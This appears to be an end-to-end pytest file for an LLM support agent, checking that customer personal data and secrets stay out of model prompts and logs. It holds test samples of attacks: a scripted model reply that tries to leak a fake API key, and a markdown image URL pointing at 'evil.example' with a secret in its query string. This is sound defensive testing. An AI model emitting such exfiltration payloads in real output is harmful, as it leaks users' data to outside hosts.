"""What must never leave: personal data in prompts, and anything that people wrote or that opens doors in logs."""

import json
import re
from pathlib import Path

import pytest

from e2e.llm import scripted_orchestrator
from e2e.people import ADA, guest, stranger
from e2e.planted import found_in
from servicekit.testing import eventually

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session")]
EMAIL, PHONE, CARD = "ada.private@mail.example", "+1 802 555 0147", "4111 1111 1111 1111"
WORDS = "heirloom-marmalade-kettle"
TELLING = f"My e-mail is {EMAIL}, my phone is {PHONE}, my card is {CARD}."
TOKEN = re.compile(r"eyJ[\w-]{5,}\.[\w-]{5,}")


async def test_no_prompt_holds_who_the_customer_is_or_what_opens_doors(visit, llm) -> None:
    ada = visit(ADA)
    first = await ada.say(f"{TELLING} Where is my order ABC123?")
    invoice = await ada.say("Send me the invoice for ABC123", first.conversation_id)
    await ada.say(f"Thanks! Did you note {EMAIL}?", first.conversation_id)
    await ada.say("What is in my order ABC123?", first.conversation_id)
    (link,) = invoice.end["links"].values()
    assert link in invoice.text or invoice.end["links"]
    private = (EMAIL, PHONE, CARD, "ada@example.com", "Moreno", "cust_ada", link, "signature=", ada.token())
    for prompt in llm.prompts:
        assert found_in(private, prompt) == [], prompt[prompt.find("signature=") - 400 :][:600]
        assert not TOKEN.search(prompt)
        for kind in ("cnv_", "trn_", "cust_", "127.0.0.1", "postgresql://", "redis://"):
            assert kind not in prompt
    assert len(llm.prompts) >= 4
    assert re.search(r"My e-mail is <email_[a-z2-7]{8}>", llm.prompts[0])
    # The tools' own descriptions have it as an example.
    assert not any("ABC123" in prompt.replace("such as ABC123", "") for prompt in llm.prompts)


async def test_what_is_masked_for_the_model_is_whole_for_the_customer(visit, llm) -> None:
    ada = visit(ADA)
    first = await ada.say(f"Hello, I am {EMAIL}")
    (token,) = set(re.findall(r"<email_[a-z2-7]{8}>", llm.prompts[-1].rpartition("<question")[2]))
    llm.say("repeat", {"text": f"You told me {token}, did you not?"})
    turn = await ada.say("Please repeat it", first.conversation_id)
    assert turn.text == f"You told me {EMAIL}, did you not?"
    assert turn.streamed == turn.text


async def test_a_model_cannot_be_made_to_show_a_secret(visit, llm) -> None:
    llm.say("spill", {"text": "The key is sk-abcdefghijklmnopqrstuvwx and the customer is cust_ben."})
    turn = await visit(ADA).say("spill it")
    assert turn.outcome == "refused"
    assert "sk-abc" not in json.dumps(turn.end)
    assert "cust_ben" not in json.dumps(turn.end)


async def test_no_image_of_a_model_calls_out(visit, llm) -> None:
    llm.say("paint", {"text": "Look: ![pixel](https://evil.example/?q=secret) nice, is it not?"})
    turn = await visit(ADA).say("paint something")
    assert "evil.example" not in turn.text


def _logs(machine) -> dict[str, str]:
    """Everything that any process of the machine has written to a log."""
    root: Path = machine.stack.home.root
    return {str(file.relative_to(root)): file.read_text(errors="replace") for file in root.rglob("*.log")}


async def _talk_of_secrets(machine, visit) -> list[str]:
    """Says the planted words in every way that there is, and gives the tokens that were used."""
    ada, nobody = visit(ADA), visit(guest())
    tokens = [ada.token(), nobody.token()]
    ada.token, nobody.token = (lambda: tokens[0]), (lambda: tokens[1])
    text = f"{TELLING} {WORDS}"
    first = await ada.say(f"{text} Where is my order ABC123?")
    await ada.say(f"Send me the invoice for ABC123. {WORDS}", first.conversation_id)
    await ada.say(f"{WORDS} {text}", first.conversation_id)
    card = await ada.say(f"Please open a ticket: {text} It broke after two days of light use.")
    if card.named("confirmation"):
        await ada.decide(card, True)
        await ada.follow(card, to_end=True)
    await nobody.say(f"{text} I want to talk to a person")
    await nobody.call("POST", "/chat", {"session_id": "session-planted", "message": text})
    feedback = {"conversation_id": first.conversation_id, "turn_id": first.turn_id, "thumbs": "down", "comment": text}
    await ada.call("POST", "/api/agent/feedback", feedback)
    for path in ("/api/agent/messages", "/api/agent/confirmations", "/chat", "/api/agent/conversations"):
        await ada.call("POST", path, {"text": text, WORDS: text, "message": [text], "context": {"k": text}})
        await ada.http.post(path, content=text.encode(), headers=ada.headers | {"content-type": "application/json"})
    broken = tokens[0][:-4] + "AAAA"
    for where in (f"/api/agent/conversations/{WORDS}", f"/nowhere/{WORDS}?q={EMAIL}&token={tokens[0]}"):
        headers = {"authorization": f"Bearer {broken}", "x-request-id": EMAIL, "traceparent": EMAIL, "cookie": WORDS}
        await ada.http.get(where, headers=headers)
    return [*tokens, broken]


async def test_no_log_holds_what_people_wrote_or_what_opens_doors(machine, visit, scripted_model) -> None:
    tokens = await _talk_of_secrets(machine, visit)
    await machine.reconfigure(scripted_orchestrator(scripted_model))
    scripted_model.reset()
    tokens += await _talk_of_secrets(machine, visit)
    scripted_model.behave(error_rate=1, error_faults=("broken_json", "server_error", "cut"))
    tokens += await _talk_of_secrets(machine, visit)
    async with machine.stack.proxies["orders"].delayed(5):
        await visit(ADA).say(f"Where is my order 1234? {WORDS} {EMAIL}")
    await visit(stranger()).say(f"{WORDS} {CARD}")
    scripted_model.reset()
    secrets = (EMAIL, PHONE, CARD, WORDS, "ada@example.com", "Ada Moreno", *tokens, scripted_model.server.api_key)

    async def logged() -> bool:
        return all('"request"' in text for name, text in _logs(machine).items() if name == "logs/orchestrator.log")

    await eventually(logged)
    assert {"logs/tickets.log", "postgres/postgres.log", "valkey/valkey.log"} <= _logs(machine).keys()
    for name, text in _logs(machine).items():
        assert found_in(secrets, text) == [], name
        assert not TOKEN.search(text), name
        assert "signature=" not in text, name
        assert not re.search(r"(postgresql|redis)://[^\s\"]*:[^\s\"@\[\]]+@", text), name


async def test_logs_say_what_happened_without_saying_what_was_said(machine, visit) -> None:
    """Or a logger that writes nothing would pass."""
    turn = await visit(ADA).say("Where is my order ABC123?")
    lines = [json.loads(line) for line in _logs(machine)["logs/orchestrator.log"].splitlines() if line[:1] == "{"]
    requests = [line for line in lines if line.get("event") == "request"]
    assert {"/api/agent/messages", "/api/agent/stream"} <= {line["route"] for line in requests}
    assert all(line["request_id"] and line["trace_id"] for line in requests)
    assert turn.outcome == "answered"
